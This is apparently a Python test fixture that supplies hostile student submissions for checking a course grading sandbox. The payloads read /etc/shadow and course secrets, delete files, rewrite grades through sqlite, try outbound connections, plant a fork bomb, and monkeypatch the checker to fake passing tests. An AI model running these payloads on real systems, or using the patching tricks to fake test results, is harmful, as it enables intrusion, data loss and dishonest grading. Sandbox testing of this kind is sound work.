"""The hostile submissions of tests/security: one student per attack on the grading pipeline."""

from tinycourse import HONEST, POINTS, WRONG

__all__ = ["attacks", "EXPECTED"]


def attacks(root, port):
    """{student: notebook code (or raw bytes)}: one hostile submission per attack, aimed at `root`
    (the course folder) and a listener on 127.0.0.1:`port` (the network attack)."""
    sol = f"{root}/solutions/tiny/tiny.ipynb"
    db = f"{root}/gradebook.db"
    alice = f"{root}/submitted/alice/tiny/tiny.ipynb"
    reader = f'''
import glob
for path in [{sol!r}, {db!r}, {alice!r}, "/etc/shadow"] + glob.glob({root!r} + "/**", recursive=True):
    try:
        print("READ", path, open(path, "rb").read()[:300])
    except OSError as err:
        print("DENIED", path, type(err).__name__)
'''
    writer = f'''
import os, shutil
for path in [{sol!r}, {db!r}, {alice!r}]:
    for act in (lambda p: open(p, "w").write("pwned"), os.remove, lambda p: shutil.rmtree(os.path.dirname(p))):
        try:
            act(path)
        except OSError as err:
            print("DENIED", path, type(err).__name__)
'''
    sql = f'''
import sqlite3
try:
    con = sqlite3.connect({db!r})
    con.execute("UPDATE grade SET manual_score = 100")
    con.execute("UPDATE grade SET auto_score = 0 WHERE id IN (SELECT grade.id FROM grade)")
    con.commit()
except Exception as err:
    print("DENIED", type(err).__name__, err)
'''
    network = f'''
import socket, urllib.request
for addr in [("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)]:
    try:
        socket.create_connection(addr, timeout=2).sendall(b"LEAK")
        print("CONNECTED", addr)
    except OSError as err:
        print("DENIED", addr, err)
'''
    return {
        # honest work, next to the attacks: 3 points and 0 points
        "alice": HONEST,
        "bob": WRONG,
        # reading and writing the course's files, and the gradebook through sqlite
        "reader": [HONEST, reader],
        "writer": [WRONG, writer],
        "sqlwriter": [WRONG, sql],
        "network": [HONEST, network],
        # fooling the tests in the kernel: the re-check must catch every one
        "patch_numpy": WRONG + "numpy_patched = True\nnp.allclose = lambda *a, **k: True\n",
        "shadow_np": WRONG + "class _Fake:\n    def __getattr__(self, name):\n        return lambda *a, **k: True\n"
                     "np = _Fake()\n",
        "patch_checker": [WRONG, "import tinycheck\ntinycheck.check_scale = lambda f: None\n"],
        "checker_file": [WRONG, "open('tinycheck.py', 'w').write('def check_scale(f):\\n    pass\\n')\n"],
        "patch_builtins": [WRONG, "import builtins, types\n_imp = builtins.__import__\n"
                                  "def _fake(name, *a, **k):\n"
                                  "    if name == 'tinycheck':\n"
                                  "        m = types.ModuleType(name)\n        m.check_scale = lambda f: None\n"
                                  "        return m\n    return _imp(name, *a, **k)\n"
                                  "builtins.__import__ = _fake\n"],
        "transformer": [WRONG, "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n"],
        "excepthook": [WRONG, "import sys\nsys.excepthook = lambda *a: None\n"
                              "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"],
        # killing, hanging and exhausting the kernel
        "exit_in_test": "import os\ndef scale(x, k):\n    os._exit(0)\n",
        "infinite_loop": "def scale(x, k):\n    while True:\n        try:\n            pass\n"
                         "        except BaseException:\n            pass\n",
        "alloc_10gb": [HONEST, "import numpy\nbig = numpy.ones(10 * 2**30 // 8)\n"],
        "fork_bomb": [HONEST, "import os\nwhile True:\n    os.fork()\n"],
        "big_file": [HONEST, "with open('big.bin', 'wb') as f:\n    for _ in range(1024):\n"
                             "        f.write(bytes(1 << 20))\n"],
        "orphan": [HONEST, "import subprocess\nsubprocess.Popen(['sleep', '977'], start_new_session=True)\n"
                           "subprocess.Popen(['sh', '-c', '(sleep 978 &)'])\n"],
        "corrupt": b'{"cells": [ {"cell_type": "code", "source": "def scale(x, k): return x*k"',
    }


# what the honest part of each submission earns
EXPECTED = {"alice": POINTS, "reader": POINTS, "network": POINTS, "alloc_10gb": POINTS, "big_file": POINTS,
            "orphan": POINTS}
